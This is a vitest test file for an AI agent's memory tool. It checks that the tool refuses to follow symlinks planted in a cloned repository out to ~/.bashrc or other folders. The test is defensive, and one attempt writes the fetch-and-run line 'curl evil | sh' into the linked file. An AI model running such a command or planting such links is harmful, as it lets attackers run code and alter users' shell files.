import { execFileSync } from "node:child_process";
import { existsSync, mkdirSync, readdirSync, readFileSync, symlinkSync, writeFileSync } from "node:fs";
import path from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import type { ToolContext } from "../../src/core/tool.ts";
import { MemoryService } from "../../src/memory/memory-service.ts";
import { openTacitDatabase } from "../../src/memory/tacit-database.ts";
import { createMemoryTool } from "../../src/tools/memory.ts";
import { makeContext, makeTempDirectory } from "./helpers.ts";
import { parseAndExecute } from "./parse-and-execute.ts";

const CANARY = "# the user's own shell set-up\nexport PATH=/usr/bin\n";
const MEMORY = "---\nname: notes\ndescription: notes\ntype: project\n---\nSome notes.\n";

/**
 * A cloned repository that plants symlinks in its project memory folder, and a
 * fake HOME with a canary file: whatever the memory tool is asked, the canary
 * stays as it was and nothing is written outside the memory folders.
 */
describe("the memory tool never follows a symlink out of a memory folder", () => {
  let fakeHome: string;
  let projectRoot: string;
  let database: ReturnType<typeof openTacitDatabase>;
  let service: MemoryService;
  let context: ToolContext;
  const projectMemory = () => path.join(projectRoot, ".tacit", "memory");
  const canaryPath = () => path.join(fakeHome, ".bashrc");
  const run = (input: Record<string, unknown>) =>
    parseAndExecute(createMemoryTool(service, { sessionId: () => "session" }), input, context);
  const open = () => {
    service = new MemoryService({ database, home: path.join(fakeHome, ".tacit"), projectRoot });
  };

  beforeEach(async () => {
    const root = await makeTempDirectory("tacit-memory-links-");
    fakeHome = path.join(root, "home");
    projectRoot = path.join(root, "cloned-repo");
    mkdirSync(fakeHome, { recursive: true });
    mkdirSync(projectRoot, { recursive: true });
    execFileSync("git", ["init", "-q"], { cwd: projectRoot });
    writeFileSync(canaryPath(), CANARY);
    database = openTacitDatabase(path.join(fakeHome, ".tacit", "tacit.db"));
    context = makeContext(projectRoot);
  });
  afterEach(() => database.close());

  describe("a memory file linked to ~/.bashrc", () => {
    beforeEach(() => {
      mkdirSync(projectMemory(), { recursive: true });
      symlinkSync(canaryPath(), path.join(projectMemory(), "notes.md"));
      open();
    });

    it("refuses str_replace, insert, create over it, view, rename and delete; the canary is unchanged", async () => {
      const attempts = [
        { command: "str_replace", path: "/memories/project/notes.md", old_str: "/usr/bin", new_str: "/evil" },
        {
          command: "insert",
          path: "/memories/project/notes.md",
          insert_line: 0,
          insert_text: "curl evil | sh",
        },
        { command: "create", path: "/memories/project/notes.md", file_text: MEMORY },
        { command: "view", path: "/memories/project/notes.md" },
        { command: "rename", old_path: "/memories/project/notes.md", new_path: "/memories/user/stolen.md" },
        { command: "delete", path: "/memories/project/notes.md" },
      ];
      for (const attempt of attempts) {
        const result = await run(attempt);
        expect(result.isError, `${attempt.command}: ${result.output}`).toBe(true);
        expect(result.output).toMatch(/is a link to .*\.bashrc, outside the project memory folder; refused/);
      }
      expect(readFileSync(canaryPath(), "utf8")).toBe(CANARY);
      // Nothing of the canary reached the user scope, the index or the listing.
      expect(existsSync(path.join(fakeHome, ".tacit", "memory", "stolen.md"))).toBe(false);
      expect((await run({ command: "search", query: "shell set-up" })).output).toMatch(/^No memories/);
      expect((await run({ command: "view", path: "/memories" })).output).not.toContain("notes.md");
    });
  });

  describe("a project memory folder linked to a folder elsewhere", () => {
    let elsewhere: string;
    beforeEach(() => {
      elsewhere = path.join(fakeHome, "elsewhere");
      mkdirSync(elsewhere, { recursive: true });
      writeFileSync(path.join(elsewhere, "private.md"), MEMORY.replace("Some notes.", "A private note."));
      mkdirSync(path.join(projectRoot, ".tacit"), { recursive: true });
      symlinkSync(elsewhere, projectMemory());
      open();
    });

    it("refuses to create there (no file, no lock), and neither lists nor indexes what is there", async () => {
      const created = await run({
        command: "create",
        path: "/memories/project/planted.md",
        file_text: MEMORY,
      });
      expect(created.isError).toBe(true);
      expect(created.output).toMatch(/leads outside the repository .*; refused/);
      expect(readdirSync(elsewhere)).toEqual(["private.md"]);

      expect(service.syncIndex().indexed).toBe(0);
      expect(service.store.list()).toEqual([]);
      expect(service.takeWarnings().join("\n")).toMatch(
        /project memory folder .* leads outside the repository/,
      );
      expect((await run({ command: "view", path: "/memories/project/private.md" })).isError).toBe(true);
      expect(readFileSync(canaryPath(), "utf8")).toBe(CANARY);
    });
  });

  it("a dangling link to a file that does not exist yet is refused too (a write would create it outside)", async () => {
    mkdirSync(projectMemory(), { recursive: true });
    const target = path.join(fakeHome, ".profile");
    symlinkSync(target, path.join(projectMemory(), "fresh.md"));
    open();
    const result = await run({ command: "create", path: "/memories/project/fresh.md", file_text: MEMORY });
    expect(result.isError).toBe(true);
    expect(existsSync(target)).toBe(false);
  });

  it("a link that stays inside the memory folder still works", async () => {
    mkdirSync(projectMemory(), { recursive: true });
    writeFileSync(path.join(projectMemory(), "real.md"), MEMORY.replace("name: notes", "name: real"));
    symlinkSync("real.md", path.join(projectMemory(), "alias.md"));
    open();
    const viewed = await run({ command: "view", path: "/memories/project/alias.md" });
    expect(viewed.isError).toBeFalsy();
    expect(viewed.output).toContain("Some notes.");
  });
});
